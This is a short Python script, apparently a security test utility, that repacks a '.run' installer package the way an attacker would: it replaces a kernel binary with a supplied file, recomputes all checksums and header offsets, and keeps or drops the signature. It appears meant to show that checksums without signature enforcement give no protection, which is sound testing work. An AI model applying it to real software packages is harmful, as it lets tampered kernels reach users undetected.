"""Repacks a .run as an attacker would: one kernel's bytes replaced by the given file, and every
checksum recomputed (the manifest's, the kernel record's, the payload's, the header's hash line),
with the offsets of the header moved to fit. The signature line is kept as it was, or dropped
(--drop-signature). Only the package's own format is used: what anyone could read from a .run.

usage: repack_run.py IN.run OUT.run KERNEL_FILE [--drop-signature]"""
import hashlib, io, json, re, sys, tarfile

src, dst, evil = sys.argv[1:4]
drop = "--drop-signature" in sys.argv[4:]
run = open(src, "rb").read()
header_len = int(re.search(rb"^skb_header_len=(\d+)$", run, re.M).group(1))
header = run[:header_len].decode()
var = lambda name: int(re.search(r"^%s=(\d+)$" % name, header, re.M).group(1))
sig_size = var("skb_signature_size")
signature = b"" if drop else run[header_len + 65: header_len + 65 + sig_size]
installer = run[var("skb_installer_offset"): var("skb_installer_offset") + var("skb_installer_size")]
payload = run[var("skb_payload_offset"):]

# The payload: replace the first static kernel's binary, fix its record and the manifest.
members = []
with tarfile.open(fileobj=io.BytesIO(payload), mode="r:gz") as tar:
    for m in tar.getmembers():
        members.append((m, tar.extractfile(m).read()))
manifest = json.loads(members[0][1])
target = manifest["kernels"][0]["bin"]
record_path = target.rsplit(".", 1)[0] + ".json"
new_bin = open(evil, "rb").read()
files = dict((m.name, data) for m, data in members)
files[target] = new_bin
record = json.loads(files[record_path])
record["sha256"] = hashlib.sha256(new_bin).hexdigest()
record["size"] = len(new_bin)
files[record_path] = (json.dumps(record, indent=2) + "\n").encode()
for f in manifest["files"]:
    if f["path"] in files:
        f["sha256"] = hashlib.sha256(files[f["path"]]).hexdigest()
        f["size"] = len(files[f["path"]])
manifest["installed_size"] = sum(f["size"] for f in manifest["files"])
files["manifest.json"] = json.dumps(manifest, indent=1).encode()
out = io.BytesIO()
with tarfile.open(fileobj=out, mode="w:gz") as tar:
    for m, _ in members:
        data = files[m.name]
        m.size = len(data)
        tar.addfile(m, io.BytesIO(data))
payload = out.getvalue()

# The header: new payload size and sha256, offsets that fit its new length.
def with_values(text, values):
    for name, value in values.items():
        text = re.sub(r"^%s=\S+$" % name, "%s=%s" % (name, value), text, flags=re.M)
    return text
length = header_len
for _ in range(8):
    installer_offset = length + 65 + len(signature)
    text = with_values(header, {
        "skb_header_len": length, "skb_signature_size": len(signature),
        "skb_installer_offset": installer_offset, "skb_payload_offset": installer_offset + len(installer),
        "skb_payload_size": len(payload), "skb_payload_sha256": hashlib.sha256(payload).hexdigest()})
    if len(text) == length:
        break
    length = len(text)
hash_line = (hashlib.sha256(text.encode()).hexdigest() + "\n").encode()
with open(dst, "wb") as f:
    f.write(text.encode() + hash_line + signature + installer + payload)
